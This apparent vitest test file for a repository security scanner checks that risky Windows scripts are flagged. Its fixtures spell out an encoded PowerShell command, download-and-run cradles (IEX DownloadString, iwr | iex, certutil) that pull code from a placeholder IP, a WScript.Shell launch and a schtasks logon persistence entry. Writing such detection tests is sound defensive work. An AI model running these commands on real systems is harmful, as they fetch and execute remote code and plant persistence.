/**
 * Windows scripts found in a repository are judged for the same acts as shell scripts: encoded
 * PowerShell, download-and-run cradles, WScript.Shell, persistence.
 */
import { describe, expect, it } from "vitest";
import { ruleIds, scanOne } from "../../helpers/scan.js";

const text = (s: string) => new TextEncoder().encode(s);

describe("Windows script risks", () => {
  it.each([
    [
      "run.bat",
      "@echo off\r\npowershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n",
    ],
    ["setup.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\n"],
    ["setup.ps1", "iwr http://203.0.113.9/a.ps1 | iex\n"],
    ["get.cmd", "certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe && x.exe\r\n"],
    ["x.vbs", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n'],
    ["install.bat", 'schtasks /create /sc onlogon /tn upd /tr "C:\\x.exe"\r\n'],
  ])("%s: %s is risky code", async (name, src) => {
    const file = await scanOne(text(src), name);
    expect(ruleIds(file)).toContain("repo/risky-code");
  });

  it("a plain batch file is only a script", async () => {
    const file = await scanOne(text("@echo off\r\npython train.py --epochs 3\r\n"), "train.bat");
    expect(ruleIds(file)).toEqual(["repo/shell-script"]);
  });
});
